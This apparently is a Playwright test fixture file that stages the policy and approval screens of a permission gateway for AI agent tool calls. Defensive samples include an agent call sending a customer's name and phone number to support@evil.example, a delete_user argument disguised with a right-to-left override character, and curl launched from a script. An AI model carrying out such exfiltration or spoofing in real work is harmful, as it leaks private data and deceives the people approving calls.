// Stops of the tour about policy, and the page that asks in each of its states.
import type { Page } from "playwright";
import type { Grant } from "../../electron/core/permission/grants.ts";
import type { ToolLabels } from "../../electron/core/labels/labels.ts";
import type { Matter } from "../../electron/core/permission/questions.ts";
import type { OwnPolicyView } from "../../electron/core/policy/own.ts";
import type { Subject } from "../../electron/core/permission/subject.ts";
import { rule } from "../support/rules.ts";
import {
  accountMatter,
  consentMatter,
  LISTED,
  pageMatter,
  signInMatter,
} from "./sample-consent.ts";
import { sampleAgents, sampleServers } from "./sample.ts";
import { alive, full, nav, now, type Stop } from "./tour-base.ts";

const [agent] = sampleAgents(now);
const [server] = sampleServers(now);
if (agent === undefined || server === undefined) throw new Error("the sample is empty");

const instant = (ms: number): string => new Date(now + ms).toISOString();
const RULES = [
  rule(1, { tool: "search_*", agent: agent.id, server: server.id, note: "Reading is fine" }),
  rule(2, { effect: "deny", tool: "*_production_*" }),
  rule(3, { effect: "ask", server: server.id, tool: "export_everything_that_there_is_to_export" }),
];
const grant: Grant = {
  id: "grt_000000000001",
  tenant: "personal",
  agent: { id: agent.id, name: agent.name, authMethod: "bearer" },
  server: { id: server.id, name: server.name },
  account: null,
  tool: "list_projects",
  scope: "tool",
  argumentsHash: null,
  conditions: [],
  lifetime: "1-hour",
  run: null,
  atMost: null,
  createdAt: instant(-300_000),
  endsAt: instant(3_300_000),
  idleEndsAt: instant(500_000),
  uses: 12,
};

/** Held to chosen fields, counted, and ending with its run. */
const held: Grant = {
  ...grant,
  id: "grt_000000000002",
  account: {
    id: "acc_000000000001",
    issuer: "https://id.example",
    sub: "248289761001",
    tenant: null,
    who: "jane.doe@acme.example",
    claimed: true,
  },
  tool: "create_issue",
  scope: "fields",
  conditions: [
    { pointer: "/repo", equals: '"acme/app"' },
    { pointer: "/filter/owner", equals: '"jane"' },
  ],
  lifetime: "this-run",
  run: "run_000000000001",
  atMost: 20,
  uses: 3,
};
const LABELS: readonly ToolLabels[] = [
  { server: server.id, tool: null, labels: ["private"] },
  { server: server.id, tool: "send_mail", labels: ["egress"] },
].map((one) => ({
  ...one,
  labels: one.labels as ToolLabels["labels"],
  tenant: "personal",
  setAt: instant(-9_000_000),
}));

export const subject = (given: Partial<Subject> = {}): Subject => ({
  tenant: "personal",
  agent: { id: agent.id, name: agent.name, authMethod: "bearer" },
  server: {
    id: server.id,
    name: server.name,
    kind: "http",
    stage: "production",
    pattern: "mtls",
    target: "https://mcp.crm.example/mcp",
  },
  account: {
    id: "acc_000000000001",
    issuer: "https://id.example",
    sub: "248289761001",
    tenant: "tid=9188040d",
    who: "jane.doe@acme.example",
    claimed: true,
  },
  audience: "https://mcp.crm.example/mcp",
  scopes: ["contacts:read", "profile"],
  acts: "required",
  program: {
    pid: 41_212,
    path: "/usr/bin/node",
    startedAt: instant(-900_000),
    chain: [
      { pid: 41_212, name: "node", path: "/usr/bin/node" },
      { pid: 41_190, name: "bash", path: "/usr/bin/bash" },
      { pid: 40_977, name: "code", path: "/usr/share/code/code" },
    ],
    throughShim: false,
    strength: "token",
  },
  tool: "search_contacts",
  destructive: false,
  toolFingerprint: null,
  toolStanding: "never-listed",
  claims: null,
  argumentsText: JSON.stringify({ query: "Jane Doe", limit: 20, fields: ["name", "phone"] }),
  argumentsBytes: 60,
  argumentsHash: "9f2c4e1f07ab3d5581b6a0c7e2f4d6089f2c4e1f07ab3d5581b6a0c7e2f4d608",
  stamp: "s",
  run: { id: "run_000000000001", startedAt: instant(-1_400_000), calls: 23 },
  ...given,
});
export const asks = (given: Partial<Subject> = {}, rules = ["built-in/nothing-said"]): Matter => ({
  kind: "call",
  subject: subject(given),
  rules,
});
const shown = async (page: Page): Promise<void> => {
  await page.getByRole("alertdialog").waitFor();
  await alive(page);
};

export const ARTICLE: OwnPolicyView = {
  id: "pol_000000000001",
  name: "article",
  mode: "replace",
  source: { type: "bundle", origin: "article.rego", hash: "5c1e".repeat(16), bytes: 133_120 },
  installedAt: instant(-300_000),
  rego: `# The policy of the five patterns.
package stoa.mcp.authz

import future.keywords.if

# Allow tool invocation if agent has required scope
allow if {
	input.agent.scopes[_] == "mcp:invoke"
	input.tool.namespace == input.agent.tenant
}

# Require mTLS for destructive operations
deny if {
	input.tool.name == "delete-user"
	not input.request.cert_verified
}
`,
};
export const SERVER: OwnPolicyView = {
  id: "pol_000000000002",
  name: "company",
  mode: "join",
  source: {
    type: "server",
    url: "https://opa.company.example/v1/data/countersign/decision",
    secret: null,
    timeoutMs: 500,
  },
  installedAt: instant(-300_000),
  rego: null,
};

export const POLICY_STOPS: readonly Stop[] = [
  {
    name: "policy",
    world: () => full({ rules: RULES, grants: [grant, held], cooling: [agent.id] }),
    async go(page) {
      await nav(page, "Policy");
      await page.getByRole("heading", { name: "Allowed for a while" }).waitFor();
    },
  },
  {
    name: "policy-flow",
    world: () => full({ labels: [...LABELS] }),
    async go(page) {
      await nav(page, "Policy");
      await page.getByRole("tab", { name: "Data flow" }).click();
      await page.getByText("Sends out").first().waitFor();
    },
  },
  {
    name: "policy-own",
    world: () => full({ policies: [ARTICLE, SERVER] }),
    async go(page) {
      await nav(page, "Policy");
      const section = page.getByRole("region", { name: "Policy in force" });
      await section.getByRole("button", { name: "Show source" }).nth(1).click();
      await section.getByLabel("Its source").scrollIntoViewIfNeeded();
    },
  },
  {
    name: "policy-own-add",
    world: full,
    async go(page) {
      await nav(page, "Policy");
      await page.getByRole("button", { name: "Add a policy" }).click();
      await page.getByLabel("Name").fill("company");
    },
  },
  {
    name: "policy-empty",
    world: full,
    async go(page) {
      await nav(page, "Policy");
      await page.getByText("No rules yet").waitFor();
    },
  },
  {
    name: "policy-add",
    world: full,
    async go(page) {
      await nav(page, "Policy");
      await page.getByRole("button", { name: "Add rule" }).click();
      await page.getByLabel("Tool").fill("search_*");
      await page.getByText("would have been denied").waitFor();
    },
  },
  {
    name: "question-waits",
    world: () => full({ asked: [asks(), asks({ tool: "x", argumentsHash: "0" })] }),
    async go(page) {
      await page.getByText("2 questions wait for you").waitFor();
    },
  },
];

/** On the page that asks. */
const QUESTIONS: readonly Stop[] = [
  { name: "ask-call", world: () => full({ asked: [asks()] }), go: shown },
  {
    name: "ask-destructive",
    world: () =>
      full({
        asked: [
          asks(
            {
              tool: "delete_user",
              destructive: true,
              argumentsText: JSON.stringify({ user_id: "12345", reason: "asked to\u202Egnp.exe" }),
            },
            ["built-in/destructive"],
          ),
        ],
      }),
    go: shown,
  },
  {
    name: "ask-long",
    world: () =>
      full({
        asked: [
          asks({
            agent: {
              id: agent.id,
              name: "An agent whose name takes all of the eighty characters that a name may have, yes",
              authMethod: "certificate",
            },
            tool: "an_extremely_long_tool_name_".repeat(8),
            argumentsText: JSON.stringify({
              text: "word ".repeat(600),
              rows: Array.from({ length: 60 }, (_, i) => ({ i, name: `row ${i}` })),
            }),
          }),
        ],
      }),
    go: shown,
  },
  {
    name: "ask-edit",
    world: () => full({ asked: [asks()] }),
    async go(page) {
      await shown(page);
      await page.getByRole("button", { name: "Change the arguments" }).click();
      await page
        .getByLabel("Arguments, as they will be sent")
        .fill('{"query": "Jane", "query": 2}');
      await page.getByRole("button", { name: "Use these" }).click();
      await page.getByText("twice").first().waitFor();
    },
  },
  {
    name: "ask-edited",
    world: () => full({ asked: [asks()] }),
    async go(page) {
      await shown(page);
      await page.getByRole("button", { name: "Change the arguments" }).click();
      await page
        .getByLabel("Arguments, as they will be sent")
        .fill('{"query": "Jane Doe", "limit": 1}');
      await page.getByRole("button", { name: "Use these" }).click();
      await page.getByText("You changed them").scrollIntoViewIfNeeded();
      await alive(page);
    },
  },
  {
    name: "ask-anomaly",
    world: () =>
      full({
        asked: [
          {
            kind: "anomaly",
            tenant: "personal",
            agent: { id: agent.id, name: agent.name, authMethod: "bearer" },
            program: {
              pid: 52_001,
              path: "/usr/bin/curl",
              startedAt: instant(-2000),
              chain: [
                { pid: 52_001, name: "curl", path: "/usr/bin/curl" },
                { pid: 51_990, name: "python3.12", path: "/usr/bin/python3.12" },
                { pid: 51_871, name: "bash", path: "/usr/bin/bash" },
              ],
              throughShim: false,
              strength: "token",
            },
            before: ["/home/jane/.local/share/claude/versions/2.1.0"],
          },
        ],
      }),
    go: shown,
  },
  {
    name: "ask-trifecta",
    world: () =>
      full({
        asked: [
          {
            kind: "call",
            subject: subject({
              tool: "post_message",
              argumentsText: JSON.stringify({
                to: "support@evil.example",
                text: "Jane Doe, +44 20 7946 0000",
              }),
            }),
            rules: ["built-in/lethal-trifecta"],
            trifecta: [
              {
                label: "private",
                by: { server: "crm", tool: "read_customer", at: instant(-400_000) },
              },
              {
                label: "untrusted",
                by: { server: "web", tool: "fetch_page", at: instant(-90_000) },
              },
              { label: "egress", by: null },
            ],
          },
        ],
      }),
    go: shown,
  },
  {
    name: "ask-labels",
    world: () =>
      full({
        asked: [
          {
            kind: "labels",
            server: "crm",
            tool: "read_customer",
            removed: ["private", "untrusted"],
          },
        ],
      }),
    go: shown,
  },
  {
    name: "ask-longer",
    world: () =>
      full({
        asked: [
          asks({
            tool: "create_issue",
            argumentsText: JSON.stringify({
              repo: "acme/app",
              title: "Crash on start",
              filter: { owner: "jane", open: true },
            }),
          }),
        ],
      }),
    async go(page) {
      await shown(page);
      await page.getByRole("button", { name: "For longer" }).click();
      await page.getByLabel("How long").click();
      await page.getByRole("option", { name: "Allow for this stretch of work" }).click();
      await page.getByLabel("Covers").click();
      await page.getByRole("option", { name: "Where chosen fields" }).click();
      await page.getByLabel("repo").check();
      await alive(page);
    },
  },
  {
    name: "ask-offer",
    world: () =>
      full({
        asked: [
          { kind: "call", subject: subject(), rules: ["built-in/nothing-said"], approvals: 5 },
        ],
      }),
    go: shown,
  },
  {
    name: "ask-rule",
    world: () =>
      full({
        asked: [
          {
            kind: "rule",
            change: "add",
            items: [{ rule: rule(7, { tool: "search_*" }), agent: agent.name, server: null }],
          },
        ],
      }),
    go: shown,
  },
  {
    name: "ask-rules",
    world: () =>
      full({
        asked: [
          {
            kind: "rule",
            change: "add",
            items: ["search_*", "list_projects", "read_note", "get_weather", "find_people"].map(
              (tool, i) => ({
                rule: rule(i, { tool, target: "https://mcp.crm.example/mcp" }),
                agent: i === 2 ? null : agent.name,
                server: server.name,
              }),
            ),
          },
        ],
      }),
    go: shown,
  },
  { name: "ask-consent", world: () => full({ asked: [consentMatter(LISTED)] }), go: shown },
  {
    name: "ask-consent-tools",
    world: () => full({ asked: [consentMatter(LISTED)] }),
    async go(page) {
      await page.getByRole("alertdialog").waitFor();
      await page.getByRole("button", { name: /that say they only read/ }).click();
      await page.getByRole("radio", { name: "Block" }).nth(2).click();
      await alive(page);
      await page.locator(".ask-tools-list").scrollIntoViewIfNeeded();
    },
  },
  { name: "ask-account-changed", world: () => full({ asked: [accountMatter] }), go: shown },
  { name: "ask-page", world: () => full({ asked: [pageMatter] }), go: shown },
  { name: "ask-sign-in", world: () => full({ asked: [signInMatter] }), go: shown },
  {
    name: "ask-consent-changed",
    world: () => full({ asked: [consentMatter(null, true)], offered: LISTED }),
    go: shown,
  },
  {
    name: "ask-policy",
    world: () =>
      full({
        asked: [
          {
            kind: "policy",
            change: "install",
            policy: ARTICLE,
            rehearsal: {
              calls: 412,
              deny: 3,
              ask: 5,
              allow: 2,
              unjudged: { unknown: 0, arguments: 0, failed: 0 },
            },
          },
        ],
      }),
    go: shown,
  },
  {
    name: "ask-nothing",
    world: full,
    async go(page) {
      await page.getByText("Nothing waits for you").waitFor();
    },
  },
];

export const QUESTION_STOPS: readonly Stop[] = QUESTIONS.map((stop) => ({
  ...stop,
  surface: "approval",
}));
